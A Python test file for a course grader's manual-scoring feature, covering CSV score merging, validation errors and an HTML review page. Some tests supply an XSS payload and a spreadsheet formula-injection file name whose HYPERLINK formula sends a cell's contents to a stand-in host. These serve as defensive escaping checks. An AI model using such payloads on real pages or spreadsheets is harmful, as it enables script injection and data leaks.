"""Manual review: the TAs' review page, and merging their scores file into the results.

The scores file is long-format CSV (`student,part,score[,comment]`); a file with any bad line is
refused as a whole, with every problem and its line number. Merged results count the written
parts in `score` and `max_score` and keep the auto-graded part as `auto_score`.
"""
from __future__ import annotations

import copy
import csv
import io
import re
from html.parser import HTMLParser

from pathlib import Path

import pytest

from assignments.hw3 import ASSIGNMENT, WRITTEN
from grader.manual import ManualScoresError, apply_manual_scores, manual_score, unscored
from grader.render.review import review
from grader.results import GRADED, UNREADABLE, QuestionResult, Result, WrittenAnswer

from conftest import SUBMISSIONS

PART_IDS = [w.id for w in WRITTEN]
WRITTEN_MAX = sum(w.points for w in WRITTEN)


def answers(texts: dict[str, str]) -> list[WrittenAnswer]:
    return [WrittenAnswer(w.id, w.title, float(w.points), texts.get(w.id, ""), w.rubric, found=bool(texts.get(w.id)))
            for w in WRITTEN]


def result(name: str, auto: float, texts: dict[str, str] | None = None, status: str = GRADED) -> Result:
    questions = [QuestionResult("1a", "1(a)", "sigmoid_jacobian", auto, 100.0, "partial")]
    written = answers(texts or {}) if status == GRADED else []
    return Result(submission=name, status=status, score=auto, max_score=100.0, questions=questions, written=written)


@pytest.fixture
def results():
    return [result("alice.ipynb", 90.0, {"1a-derivation": "diag(σ')W", "2b-proof": "induction"}),
            result("bob.ipynb", 60.0, {"1a-derivation": "σ W"}),
            result("dave.ipynb", 0.0, status=UNREADABLE)]


def scores_file(tmp_path, text: str, name="scores.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def written(res: Result) -> dict[str, WrittenAnswer]:
    return {a.id: a for a in res.written}


# ------------------------------------------------------------------------------------------------
# merging


def test_scores_and_comments_are_merged(tmp_path, results):
    path = scores_file(tmp_path, 'student,part,score,comment\nalice.ipynb,1a-derivation,4.5,"σ′ = σ(1−σ) missing, −0.5"\n'
                                 "alice.ipynb,2b-proof,5\nbob.ipynb,1a-derivation,0,sigma not its derivative\n")
    alice, bob, dave = apply_manual_scores(results, path)
    assert written(alice)["1a-derivation"].score == 4.5
    assert written(alice)["1a-derivation"].comment == "σ′ = σ(1−σ) missing, −0.5"
    assert written(alice)["2b-proof"].score == 5 and written(alice)["2b-proof"].comment == ""
    assert written(alice)["3a-gates"].score is None
    assert alice.auto_score == 90 and alice.score == 99.5 and manual_score(alice) == 9.5
    assert bob.score == 60 and written(bob)["1a-derivation"].comment == "sigma not its derivative"
    for r in (alice, bob, dave):
        assert r.max_score == 100 + WRITTEN_MAX
    assert dave.score == 0 and [a.id for a in dave.written] == PART_IDS and not any(a.found for a in dave.written)


def test_the_inputs_are_left_alone_and_merging_again_gives_the_same(tmp_path, results):
    before = copy.deepcopy(results)
    path = scores_file(tmp_path, "alice.ipynb,1a-derivation,3\n")
    once = apply_manual_scores(results, path)
    assert [r.to_dict() for r in results] == [r.to_dict() for r in before]
    twice = apply_manual_scores(once, path)
    assert [r.to_dict() for r in twice] == [r.to_dict() for r in once]


def test_header_blank_lines_comments_empty_scores_and_stems(tmp_path, results):
    path = scores_file(tmp_path, "\n# scored by TA 1\nSTUDENT, Part, Score\n\nalice,2b-proof, 2 \n"
                                 "bob.ipynb,2b-proof,,not scored yet\n")
    alice, bob, _ = apply_manual_scores(results, path)
    assert written(alice)["2b-proof"].score == 2
    assert written(bob)["2b-proof"].score is None
    assert ("bob.ipynb", "2b-proof") in unscored([alice, bob])


def test_an_ambiguous_stem_is_not_accepted(tmp_path):
    results = [result("x.ipynb", 1.0, {}), result("x.py", 2.0, {})]
    with pytest.raises(ManualScoresError, match=r"line 1: unknown student 'x'"):
        apply_manual_scores(results, scores_file(tmp_path, "x,2b-proof,1\n"))
    merged = apply_manual_scores(results, scores_file(tmp_path, "x.py,2b-proof,1\n"))
    assert merged[1].score == 3.0 and merged[0].score == 1.0


def test_an_empty_file_merges_nothing_but_counts_every_part(tmp_path, results):
    merged = apply_manual_scores(results, scores_file(tmp_path, ""))
    assert [r.score for r in merged] == [90.0, 60.0, 0.0]
    assert all(r.max_score == 100 + WRITTEN_MAX for r in merged)


@pytest.mark.parametrize("text, message", [
    ("carol.ipynb,1a-derivation,3\n", r"line 1: unknown student 'carol.ipynb'"),
    ("alice.ipynb,1a,3\n", r"line 1: unknown part '1a' \(the written parts are: 1a-derivation, "),
    ("alice.ipynb,1a-derivation,5.5\n", r"line 1: the score '5.5' for 1a-derivation is outside 0..5"),
    ("alice.ipynb,1a-derivation,-1\n", r"outside 0..5"),
    ("alice.ipynb,1a-derivation,four\n", r"line 1: the score 'four' is not a number"),
    ("alice.ipynb,1a-derivation,nan\n", r"outside 0..5"),
    ("alice.ipynb,1a-derivation,inf\n", r"outside 0..5"),
    ("alice.ipynb,1a-derivation\n", r"line 1: expected student,part,score\[,comment\], got 2 column"),
    ("alice.ipynb,1a-derivation,3,good,but,long\n", r"line 1: expected at most 4 columns"),
    ("student,part,score\nalice.ipynb,1a-derivation,3\nalice.ipynb,1a-derivation,4\n",
     r"line 3: 'alice.ipynb' / 1a-derivation was already scored on line 2"),
    ('alice.ipynb,1a-derivation,3,"unclosed\n', r"line 1: not valid CSV"),
])
def test_bad_lines_are_refused_with_their_line_number(tmp_path, results, text, message):
    with pytest.raises(ManualScoresError, match=message):
        apply_manual_scores(results, scores_file(tmp_path, text))


def test_every_problem_is_reported_at_once_and_nothing_is_merged(tmp_path, results):
    path = scores_file(tmp_path, "alice.ipynb,1a-derivation,3\nzed,2b-proof,1\nbob.ipynb,2b-proof,9\n")
    with pytest.raises(ManualScoresError) as info:
        apply_manual_scores(results, path)
    assert [p.split(":")[0] for p in info.value.problems] == ["line 2", "line 3"]
    assert str(path) in str(info.value)
    assert all(a.score is None for r in results for a in r.written)


def test_missing_and_undecodable_files(tmp_path, results):
    with pytest.raises(ManualScoresError, match="does not exist"):
        apply_manual_scores(results, tmp_path / "nope.csv")
    bad = tmp_path / "latin1.csv"
    bad.write_bytes("alice.ipynb,1a-derivation,3,gut gemacht \xfc\n".encode("latin-1"))
    with pytest.raises(ManualScoresError, match="not UTF-8"):
        apply_manual_scores(results, bad)


def test_results_without_written_parts_refuse_every_part(tmp_path):
    bare = [Result("a.py", GRADED, 1.0, 100.0)]
    with pytest.raises(ManualScoresError, match="no written parts"):
        apply_manual_scores(bare, scores_file(tmp_path, "a.py,2b-proof,1\n"))


def test_merged_results_survive_json(tmp_path, results):
    merged = apply_manual_scores(results, scores_file(tmp_path, 'alice.ipynb,2b-proof,4,"nice, short"\n'))
    again = Result.from_dict(merged[0].to_dict())
    assert again.to_dict() == merged[0].to_dict()
    assert written(again)["2b-proof"].comment == "nice, short"


# ------------------------------------------------------------------------------------------------
# the review page


class _Text(HTMLParser):
    """The text of an HTML page and its tags, to check what reaches the reader."""

    def __init__(self):
        super().__init__()
        self.text: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def parsed(html: str) -> _Text:
    page = _Text()
    page.feed(html)
    return page


def test_review_lists_every_part_with_its_rubric_and_every_answer(results):
    html = review(results, ASSIGNMENT)
    text = "".join(parsed(html).text)
    for part in WRITTEN:
        assert part.title in text and part.rubric in text
        assert f'id="part-{part.id}"' in html
    assert "diag(σ')W" in text and "induction" in text and "σ W" in text
    assert text.count("no answer found") == len(WRITTEN) * 3 - 3       # alice 2, bob 1 answered
    assert "unreadable" in text
    assert "student,part,score,comment" in text and "--manual-scores" in text


def test_review_escapes_student_text_and_names():
    evil = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    results = [result(f"{evil}.ipynb", 0.0, {"2b-proof": evil + "\x1b[31m\x00"})]
    html = review(results, ASSIGNMENT)
    page = parsed(html)
    assert "img" not in page.tags
    # the one script is the page's own scoring form (templates/review.js), allowed by hash
    own = (Path(__file__).resolve().parent.parent / "templates" / "review.js").read_text(encoding="utf-8")
    assert re.findall(r"<script>(.*?)</script>", html, re.S) == [own]
    assert "&lt;script&gt;" in html and "<script>alert" not in html
    assert "\x1b" not in html and "\x00" not in html


def test_the_scores_template_on_the_page_round_trips(tmp_path, results):
    """A TA fills in the page's scores file; it merges without a single edit elsewhere."""
    html = review(results, ASSIGNMENT)
    block = re.findall(r"<pre>(.*?)</pre>", html, re.DOTALL)[-1]
    import html as html_module
    rows = list(csv.reader(io.StringIO(html_module.unescape(block))))
    assert rows[0] == ["student", "part", "score", "comment"]
    assert len(rows) == 1 + len(results) * len(WRITTEN)
    filled = [rows[0]] + [[s, p, "1" if p == "2b-proof" else "", c] for s, p, _, c in rows[1:]]
    out = io.StringIO()
    csv.writer(out).writerows(filled)
    merged = apply_manual_scores(results, scores_file(tmp_path, out.getvalue()))
    assert [manual_score(r) for r in merged] == [1.0, 1.0, 1.0]
    # and the page of merged results shows the scores, with its rows already filled in
    page = review(merged, ASSIGNMENT)
    assert "scored 1 / 5" in page and "alice.ipynb,2b-proof,1," in page


def test_review_of_real_submissions(session, tmp_path):
    graded = [session.grade(SUBMISSIONS / name) for name in
              ("seed_written.md", "alice_correct.ipynb", "template.ipynb", "dave_broken.ipynb")]
    html = review(graded, session.case_set.assignment)
    text = "".join(parsed(html).text)
    assert "forget  the old subject" in text             # the seed's 3(a)
    assert "Review: 7 parts, 4 submissions" in text
    merged = apply_manual_scores(graded, scores_file(
        tmp_path, "seed_written.md,3a-gates,2,the forget gate does not write new content\n"
                  "alice_correct.ipynb,2b-proof,5\n"))
    seed, alice, template, dave = merged
    assert seed.score == pytest.approx(seed.auto_score + 2) and seed.auto_score == 5      # 3(b)
    assert alice.score == 105 and alice.max_score == 100 + WRITTEN_MAX
    assert template.score == 0 and dave.max_score == alice.max_score


def test_merged_scores_are_counted_once_in_the_gradebook_and_the_report(tmp_path, results):
    from grader.render import gradebook, html

    merged = apply_manual_scores(results, scores_file(tmp_path, "alice.ipynb,1a-derivation,4\n"
                                                                "alice.ipynb,2b-proof,5\n"))
    rows = list(csv.reader(io.StringIO(gradebook.csv_text(merged, ["1a"]))))
    assert rows[0][-4:] == ["written", "total", "max", "status"]
    assert rows[1][-4:] == ["9", "99", gradebook.number(100 + WRITTEN_MAX), "graded"]
    page = html.report(merged[0])
    # one set of totals everywhere (issue 12): the header shows the total and its breakdown
    assert re.search(r'id="total-score">99<', page)
    assert (f"auto 90/100 + written 9/{gradebook.number(WRITTEN_MAX)} (2 of {len(WRITTEN)} parts scored) = "
            f"99/{gradebook.number(100 + WRITTEN_MAX)}") in page


def test_review_page_is_read_only_without_its_script(results):
    """The scoring form is enabled by templates/review.js; without it the page is a plain view."""
    html = review(results, ASSIGNMENT)
    inputs = re.findall(r"<(?:input|textarea)\b[^>]*>", html)
    assert len(inputs) == 2 * len(results) * len(WRITTEN)
    assert all(" disabled" in tag for tag in inputs)
    assert re.search(r'<div class="card no-print" id="review-form"[^>]* hidden>', html)
    # each score box is bounded by its part's points, and names the student as the scores file does
    for part in WRITTEN:
        assert f'data-part="{part.id}"' in html and f'max="{part.points:g}"' in html
    assert 'data-student="alice.ipynb"' in html


def test_the_scores_template_is_safe_to_open_in_a_spreadsheet_and_still_round_trips(tmp_path):
    """A hand-in named like a formula (`=HYPERLINK(...)`, `+`, `-`, `@`; a file name is the
    student's to choose) was written as it is into the scores file the TA copies from the review
    page and opens in a spreadsheet, where it ran as a formula; gradebook exports already quote it.
    Now every student cell of that file starts with a quote, and the file merges as it is."""
    names = ['=HYPERLINK("http://x.example/?"&A2,"open").ipynb', "+1.ipynb", "-2.ipynb", "@SUM(A1).ipynb",
             "'=already-quoted.ipynb", "plain.ipynb"]
    results = [result(n, 10.0, {"2b-proof": "induction"}) for n in names]
    html = review(results, ASSIGNMENT)
    block = re.findall(r"<pre>(.*?)</pre>", html, re.DOTALL)[-1]
    import html as html_module
    rows = list(csv.reader(io.StringIO(html_module.unescape(block))))[1:]
    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in rows), rows
    # the page's "download scores.csv" (templates/review.js) writes the same cells
    cells = [html_module.unescape(c) for c in re.findall(r'data-student-cell="([^"]*)"', html)]
    assert sorted(set(cells)) == sorted({row[0] for row in rows})
    filled = [[s, p, "2" if p == "2b-proof" else "", c] for s, p, _, c in rows]
    out = io.StringIO()
    csv.writer(out).writerows(filled)
    merged = apply_manual_scores(results, scores_file(tmp_path, out.getvalue()))
    assert [r.submission for r in merged] == names
    assert [manual_score(r) for r in merged] == [2.0] * len(names)
